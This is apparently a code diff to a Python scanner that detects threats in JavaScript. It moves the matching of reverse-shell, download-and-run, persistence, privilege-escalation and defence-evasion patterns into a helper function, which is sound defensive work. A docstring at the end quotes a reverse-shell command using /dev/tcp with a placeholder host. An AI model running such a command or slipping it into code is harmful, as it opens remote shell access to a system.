@@ -16,16 +16,12 @@ from dataclasses import dataclass, field
 from typing import Any
 
 from mcpward.vet._code.interface import (
-    DEFENCE_EVASION_TEXT,
-    DOWNLOAD_RUN_TEXT,
-    PERSISTENCE_TEXT,
-    PRIVILEGE_TEXT,
-    REVERSE_SHELL_TEXT,
     SINK_CALLS,
     Obfuscation,
     Threat,
     ThreatRule,
     ToolDeclaration,
+    named_techniques,
     names_sensitive_path,
 )
 
@@ -762,21 +758,8 @@ class JavaScriptThreats:
                 continue
             line = node.start_point[0] + 1
             in_call = line in acting
-            for pattern, rule in (
-                (REVERSE_SHELL_TEXT, ThreatRule.REMOTE_SHELL),
-                (DOWNLOAD_RUN_TEXT, ThreatRule.DOWNLOAD_AND_RUN),
-                (PERSISTENCE_TEXT, ThreatRule.PERSISTENCE),
-                (PRIVILEGE_TEXT, ThreatRule.PRIVILEGE_ESCALATION),
-                (DEFENCE_EVASION_TEXT, ThreatRule.DEFENCE_EVASION),
-            ):
-                match = pattern.search(value)
-                if match is not None:
-                    where = (
-                        "in a call that writes or runs it"
-                        if in_call
-                        else "in a function that writes files or starts processes"
-                    )
-                    self._add(rule, f"{match.group(0)[:80]!r} (line {line}) {where}", line, in_call)
+            for rule, said in named_techniques(value, line, in_call):
+                self._add(rule, said, line, in_call)
 
     def _loose(self, node: Any) -> str | None:
         """A template's text with each unknown substitution as ``x``: ``bash -i >& /dev/tcp/x/9001``
